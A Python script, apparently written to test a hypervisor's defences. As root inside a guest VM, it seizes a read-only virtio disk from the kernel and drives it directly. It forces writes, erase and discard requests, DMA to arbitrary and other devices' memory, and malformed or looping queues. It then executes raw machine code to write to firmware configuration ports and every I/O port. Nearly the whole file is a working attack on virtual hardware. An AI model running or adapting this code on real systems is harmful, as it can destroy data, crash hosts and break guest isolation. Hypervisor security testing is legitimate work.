"""A driver that a guest's root wrote to do harm: it takes the read-only disk away from the kernel and
speaks to the device itself, with its own queue, addresses and lengths. Then it takes the ports.

Says one line for each attempt on the disk, then "done"; what it does after that may end the machine."""

import ctypes
import glob
import mmap
import os
import struct
import sys
import time

QUEUE = 64
CARD, DISK, CHANNEL, SLOT = "0x1041", "0x1042", "0x1043", "0x000c"
NEXT, WRITE, INDIRECT = 1, 2, 4
IN, OUT, FLUSH, GET_ID, DISCARD, WRITE_ZEROES, SECURE_ERASE, ZONE_RESET_ALL = 0, 1, 4, 8, 11, 13, 14, 26


def disk(read_only):
    for ro in glob.glob("/sys/bus/pci/devices/*/virtio*/block/*/ro"):
        if (open(ro).read().strip() == "1") == read_only:
            return ro.split("/")[5]
    sys.exit("no such disk")


def places(kinds):
    """Where devices of these kinds answer: memory that is none."""
    for folder in glob.glob("/sys/bus/pci/devices/*"):
        if open(f"{folder}/device").read().strip() in kinds:
            for line in open(f"{folder}/resource"):
                start, end, flags = (int(word, 16) for word in line.split())
                if start and flags & 0x200:
                    yield start


class Page:
    """One page of memory whose place the device can be told."""

    def __init__(self):
        self.map = mmap.mmap(-1, 4096, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
        self.map[:] = bytes(4096)
        here = ctypes.addressof(ctypes.c_char.from_buffer(self.map))
        ctypes.CDLL(None).mlock(ctypes.c_void_p(here), 4096)
        with open("/proc/self/pagemap", "rb") as pagemap:
            pagemap.seek(here // 4096 * 8)
            self.at = (struct.unpack("Q", pagemap.read(8))[0] & (1 << 55) - 1) * 4096
        assert self.at, "the kernel does not say where the page is"


class Device:
    def __init__(self, slot):
        self.folder = f"/sys/bus/pci/devices/{slot}"
        driver = f"{self.folder}/driver"
        if os.path.exists(driver):
            open(f"{driver}/unbind", "w").write(slot)
        config = os.open(f"{self.folder}/config", os.O_RDWR)
        command = struct.unpack("<H", os.pread(config, 2, 4))[0]
        os.pwrite(config, struct.pack("<H", command | 6), 4)
        space = os.pread(config, 256, 0)
        place, bars = space[0x34], {}
        while place:
            kind, following, _, what, bar = space[place : place + 5]
            offset, length = struct.unpack_from("<II", space, place + 8)
            if kind == 9 and what in (1, 2, 4):
                if bar not in bars:
                    file = os.open(f"{self.folder}/resource{bar}", os.O_RDWR | os.O_SYNC)
                    bars[bar] = mmap.mmap(file, os.fstat(file).st_size)
                if what == 1:
                    self.common = (bars[bar], offset)
                elif what == 2:
                    self.notify = (bars[bar], offset)
                    self.multiplier = struct.unpack_from("<I", space, place + 16)[0]
                else:
                    self.own = (bars[bar], offset)
            place = following
        self.rings, self.data = Page(), Page()

    def put(self, kind, at, value):
        space, base = self.common
        kind.from_buffer(space, base + at).value = value

    def get(self, kind, at):
        space, base = self.common
        return kind.from_buffer(space, base + at).value

    def begin(self, rings=None, size=QUEUE):
        byte, half, word = ctypes.c_uint8, ctypes.c_uint16, ctypes.c_uint32
        self.put(byte, 20, 0)
        deadline = time.monotonic() + 10
        while self.get(byte, 20) and time.monotonic() < deadline:
            pass
        self.put(byte, 20, 3)
        # Of what it offers, whatever a write could need; not that it is read-only.
        for select, taken in ((0, 0xFFFFFFFF & ~(1 << 5)), (1, 1)):
            self.put(word, 0, select)
            offered = self.get(word, 4)
            self.put(word, 8, select)
            self.put(word, 12, offered & taken)
        self.put(byte, 20, 11)
        self.put(half, 22, 0)
        self.put(half, 24, size)
        self.put(half, 26, 0xFFFF)
        self.where = self.get(half, 30)
        self.rings.map[:] = bytes(4096)
        base = self.rings.at if rings is None else rings
        for at, offset in ((32, 0), (40, 1024), (48, 2048)):
            self.put(word, at, (base + offset) & 0xFFFFFFFF)
            self.put(word, at + 4, (base + offset) >> 32)
        self.put(half, 28, 1)
        self.put(byte, 20, 15)
        self.count = 0

    def chain(self, parts, loop=False):
        for n, (at, length, flags) in enumerate(parts):
            last = n == len(parts) - 1
            flags |= 0 if last and not loop else NEXT
            struct.pack_into("<QIHH", self.rings.map, n * 16, at, length, flags, 0 if last else n + 1)

    def go(self, head=0, step=1, seconds=1):
        """Offers the chain, and the status byte that came, or how it went wrong."""
        self.data.map[4095] = 0xAA
        struct.pack_into("<H", self.rings.map, 1024 + 4 + 2 * (self.count % QUEUE), head)
        self.count += step
        struct.pack_into("<H", self.rings.map, 1026, self.count & 0xFFFF)
        space, base = self.notify
        ctypes.c_uint16.from_buffer(space, base + self.where * self.multiplier).value = 0
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            if struct.unpack_from("<H", self.rings.map, 2050)[0] == self.count & 0xFFFF:
                return f"status {self.data.map[4095]}"
            if self.get(ctypes.c_uint8, 20) & 0x40:
                return "the device gave up"
            time.sleep(0.001)
        return "no answer"

    def request(self, kind, sector, parts, seconds=1):
        self.begin()
        struct.pack_into("<IIQ", self.data.map, 0, kind, 0, sector)
        status = (self.data.at + 4095, 1, WRITE)
        self.chain([(self.data.at, 16, 0), *parts, status])
        return self.go(seconds=seconds)


def harm_disk(device, far):
    payload = (device.data.at + 512, 2048, 0)
    device.data.map[512:2560] = b"\xee" * 2048
    yield "read", device.request(IN, 0, [(device.data.at + 512, 2048, WRITE)])
    device.data.map[512:2560] = b"\xee" * 2048
    for sector in (0, 8, 2048):
        yield f"write at {sector}", device.request(OUT, sector, [payload])
    yield "write far outside", device.request(OUT, 1 << 60, [payload])
    for kind in (DISCARD, WRITE_ZEROES, SECURE_ERASE, ZONE_RESET_ALL):
        for flags in (0, 1):
            struct.pack_into("<QII", device.data.map, 512, 0, 8, flags)
            yield f"request {kind} flags {flags}", device.request(kind, 0, [(device.data.at + 512, 16, 0)])
    yield "flush", device.request(FLUSH, 0, [])
    yield "id into one byte", device.request(GET_ID, 0, [(device.data.at + 512, 1, WRITE)])
    for where in (0xFFFF0000, 0xFFFFF000, 1 << 40, (1 << 64) - 512, 0xFEE00000, *far):
        yield f"read into {where:#x}", device.request(IN, 0, [(where, 512, WRITE)], 1)
        yield f"write from {where:#x}", device.request(OUT, 0, [(where, 512, 0)], 1)
    yield "read of four gigabytes", device.request(IN, 0, [(device.data.at, 0xFFFFFFFF, WRITE)], 1)
    yield "read of odd length", device.request(IN, 0, [(device.data.at + 512, 513, WRITE)], 1)

    device.begin()
    device.chain([(device.data.at, 16, 0)], loop=True)
    yield "a chain in a circle", device.go(seconds=0.2)
    device.begin()
    yield "a head outside the queue", device.go(head=0xFFFF, seconds=0.2)
    device.begin()
    yield "more heads than the queue has", device.go(step=QUEUE + 1, seconds=0.2)
    device.begin()
    struct.pack_into("<QIHH", device.data.map, 512, device.data.at + 512, 16, INDIRECT, 0)
    device.chain([(device.data.at + 512, 16, INDIRECT)])
    yield "a table within itself", device.go(seconds=0.2)
    for rings in (0xFFFFF000, 1 << 45, *far):
        device.begin(rings)
        yield f"a queue at {rings:#x}", device.go(seconds=0.2)
    device.begin(size=0)
    yield "a queue of none", device.go(seconds=0.2)
    device.begin(size=0xFFFF)
    yield "a queue of too many", device.go(seconds=0.2)
    space, base = device.own
    for at in range(0, 60, 4):
        ctypes.c_uint32.from_buffer(space, base + at).value = 0xFFFFFFFF
    yield "another capacity", device.request(OUT, 0, [payload])


def harm_ports():
    """The firmware's files, by their own way of copying into memory, then all ports there are."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.iopl(3):
        yield "ports", os.strerror(ctypes.get_errno())
        return
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # mov edx, edi; mov eax, esi; out dx, eax; ret; and the same of one byte at 16.
    code[0:6], code[16:22] = b"\x89\xfa\x89\xf0\xef\xc3", b"\x89\xfa\x89\xf0\xee\xc3"
    here = ctypes.addressof(ctypes.c_char.from_buffer(code))
    shape = ctypes.CFUNCTYPE(None, ctypes.c_uint32, ctypes.c_uint32)
    long, byte = shape(here), shape(here + 16)
    page = Page()
    for item in (*range(0, 0x20), *range(0x8000, 0x8010)):
        # Control: select this item and write to it; from a page of ours.
        page.map[0:16] = struct.pack(">IIQ", item << 16 | 8 | 16, 2048, page.at + 2048)
        long(0x514, socket_order(page.at >> 32))
        long(0x518, socket_order(page.at & 0xFFFFFFFF))
    yield "the firmware's files", hex(struct.unpack(">I", page.map[0:4])[0])
    sys.stdout.flush()
    for port in range(0x0, 0x1000):
        for value in (0, 0xFF, 0x55):
            byte(port, value)
    yield "ports", "written"


def socket_order(value):
    return struct.unpack("<I", struct.pack(">I", value & 0xFFFFFFFF))[0]


slot = disk(read_only=True)
device = Device(slot)
for what, outcome in harm_disk(device, list(places((CARD, SLOT)))):
    print(f"{what}: {outcome}", flush=True)
print("done", flush=True)
# From here on it may well saw off the branch that it sits on.
for what, outcome in harm_ports():
    print(f"{what}: {outcome}", flush=True)
for where in places((CHANNEL, DISK)):
    device.request(IN, 0, [(where, 512, WRITE)], 0.1)
